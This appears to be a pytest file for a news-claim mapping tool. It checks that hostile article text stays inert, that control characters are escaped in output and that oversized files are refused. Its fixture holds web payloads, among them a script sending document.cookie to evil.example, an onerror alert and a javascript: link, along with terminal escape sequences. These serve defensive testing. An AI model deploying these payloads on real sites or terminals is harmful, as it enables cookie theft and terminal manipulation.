"""Hostile article text in the data layer: markup and control characters stay inert text; size limits hold."""

from __future__ import annotations

import io
import json
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

from mapview.cli import main
from mapview.data.anchors import anchor_quote, make_anchor, resolve
from mapview.data.problems import Problem, inert
from mapview.data.project import ProjectPaths, load_project
from mapview.data.sources import read_article
from tests.conftest import CURATED_PASSAGES

HOSTILE = (
    "<html><body onload=\"fetch('http://evil.example/x')\">\n"
    "<script>document.location='http://evil.example/?c='+document.cookie</script>\n"
    "<img src=http://evil.example/pixel.gif onerror=alert(1)>\n"
    "Officials said \u202eAlbania\u202c will lead the Deir al-Balah sector.\n"
    "\x1b]0;pwned\x07\x1b[2J terminal escape\n"
    "<a href=\"javascript:alert(1)\">link</a> &lt;b&gt; &amp;\n"
)


def _add_article(paths: ProjectPaths, name: str, data: bytes) -> Path:
    path = paths.seeds / name
    path.write_bytes(data)
    return path


def test_markup_and_controls_are_kept_verbatim_as_text(data_copy: ProjectPaths) -> None:
    _add_article(data_copy, "hostile.txt", HOSTILE.encode("utf-8"))
    project = load_project(data_copy)
    source = project.sources["hostile.txt"]
    assert source.text == HOSTILE  # nothing stripped, decoded or interpreted
    assert not [p for p in project.problems if p.severity == "error"]
    anchor = anchor_quote(source.text, "<script>document.location='http://evil.example/?c='+document.cookie</script>")
    assert resolve(source.text, anchor).status == "exact"
    rtl = anchor_quote(source.text, "Officials said \u202eAlbania\u202c will lead")
    assert source.text[rtl.start:rtl.end] == "Officials said \u202eAlbania\u202c will lead"


def test_title_from_hostile_first_line_is_just_text(data_copy: ProjectPaths) -> None:
    _add_article(data_copy, "hostile.txt", HOSTILE.encode("utf-8"))
    title = load_project(data_copy).sources["hostile.txt"].title
    assert title.startswith("<html><body onload=")


def test_problem_lines_escape_controls_and_bidi_overrides() -> None:
    problem = Problem("seeds/evil\u202etxt.exe", "claims[0]\n(x)", "unknown nation '\x1b[31mRed'")
    line = str(problem)
    assert "\n" not in line and "\x1b" not in line and "\u202e" not in line
    assert "\\u202e" in line and "\\u001b" in line
    assert inert("Deir al-Balah دير البلح") == "Deir al-Balah دير البلح"  # ordinary Arabic stays readable


def test_cli_table_and_problems_are_inert(data_copy: ProjectPaths) -> None:
    """A passage and a nation name with escapes reach the terminal escaped, in the table and in verify."""
    article = "Kosovo \x1b[2J will \u202elead\u202c the northern sector, officials said.\n"
    _add_article(data_copy, "zz_hostile.txt", article.encode("utf-8"))
    doc = json.loads(data_copy.claims.read_text(encoding="utf-8"))
    anchor = make_anchor(article, 0, article.index(","))
    doc["claims"].append({"id": "hostile-claim", "nation": "Kosovo", "role": "troops", "sector": "north-gaza",
                          "status": "reported", "evidence": [{"source": "zz_hostile.txt",
                                                             "selector": anchor.to_selectors()}]})
    doc["claims"].append({"id": "hostile-nation", "nation": "\x1b]0;pwned\x07", "role": "troops", "sector": None,
                          "status": "reported", "evidence": [{"source": "zz_hostile.txt",
                                                             "selector": anchor.to_selectors()}]})
    data_copy.claims.write_text(json.dumps(doc), encoding="utf-8")
    args = ["--sectors", str(data_copy.sectors), "--claims", str(data_copy.claims), "--seeds", str(data_copy.seeds)]
    for command in (["assignments"], ["verify"]):
        out, err = io.StringIO(), io.StringIO()
        with redirect_stdout(out), redirect_stderr(err):
            code = main(command + args)
        text = out.getvalue() + err.getvalue()
        assert code == 1  # the unknown nation is an error
        assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text
        assert "\\u001b" in text or "\\x1b" in text


def test_ten_megabyte_single_line_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "huge.txt"
    path.write_bytes(b"Kosovo " * (10_000_000 // 7 + 1))
    text, problems = read_article(path, str(path))
    assert text is None
    [problem] = problems
    assert problem.file == str(path)
    assert "the limit is 2,000,000" in problem.message and "10,000,00" in problem.message


def test_ten_megabyte_article_in_seeds_leaves_the_rest_sound(data_copy: ProjectPaths) -> None:
    path = _add_article(data_copy, "zz_huge.txt", b"x" * 10_000_000)
    project = load_project(data_copy)
    [problem] = [p for p in project.problems if p.file == str(path)]
    assert "10,000,000 bytes; the limit is 2,000,000" in problem.message
    assert project.verified_passages == CURATED_PASSAGES and project.broken_claims == 0


def test_one_and_a_half_megabyte_single_line_loads_and_anchors(tmp_path: Path) -> None:
    filler = "word " * 300_000  # 1.5 MB, no newline anywhere
    passage = "Albania may be responsible for the Deir al-Balah sector."
    line = filler + passage + " " + filler[: 1000]
    path = tmp_path / "long.txt"
    path.write_text(line, encoding="utf-8")
    assert 1_400_000 < path.stat().st_size < 2_000_000 and b"\n" not in path.read_bytes()
    text, problems = read_article(path, str(path))
    assert problems == [] and text == line
    anchor = anchor_quote(text, passage)
    assert resolve(text, anchor).status == "exact"
    moved = "EDITOR'S NOTE. " + text
    result = resolve(moved, anchor)
    assert result.status == "relocated" and moved[result.start:result.end] == passage
